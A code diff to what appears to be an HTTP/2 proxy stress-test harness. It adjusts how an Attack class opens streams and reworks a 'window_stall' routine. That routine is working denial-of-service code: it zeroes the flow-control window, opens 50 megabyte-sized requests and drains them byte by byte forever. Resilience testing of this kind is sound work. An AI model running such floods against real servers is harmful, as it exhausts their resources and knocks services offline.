@@ -115,18 +115,18 @@ class Attack:
         """What opens a stream: CONNECT to the null server; of a waypoint's users, a request."""
         return wire.request_block(self.host) if self.plain else wire.connect_block(f"{self.host}:8080")
 
-    def connect(self, stream, end=False):
+    def connect(self, stream, end=False, block=None):
         made = frames.HeadersFrame(stream)
-        made.data = self.block()
+        made.data = block or self.block()
         made.flags.add("END_HEADERS")
         if end:
             made.flags.add("END_STREAM")
         return made.serialize()
 
-    def opened(self, count=1):
+    def opened(self, count=1, end=False, block=None):
         """Streams that the other side has accepted."""
         streams = [self.new_stream() for _ in range(count)]
-        self.send(b"".join(self.connect(stream) for stream in streams))
+        self.send(b"".join(self.connect(stream, end, block) for stream in streams))
         waiting = set(streams)
         until = time.monotonic() + 5.0
         while waiting and time.monotonic() < until and not self.reader.closed:
@@ -256,9 +256,13 @@ def http2_bomb(name):
 def window_stall(attack):
     """Streams that ask for a megabyte each, and a window that lets it out byte by byte."""
     attack.send(wire.frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4)))
-    streams = attack.opened(50)
-    request = b"GET /bytes/1000000 HTTP/1.1\r\nhost: a\r\n\r\n"
-    attack.send(b"".join(wire.frame(0, 0, stream, request) for stream in streams))
+    if attack.plain:
+        asks = wire.request_block(attack.host, "GET", "/bytes/1000000")
+        streams = attack.opened(50, end=True, block=asks)
+    else:
+        streams = attack.opened(50)
+        request = b"GET /bytes/1000000 HTTP/1.1\r\nhost: a\r\n\r\n"
+        attack.send(b"".join(wire.frame(0, 0, stream, request) for stream in streams))
     while True:
         for stream in streams:
             yield wire.frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big"))
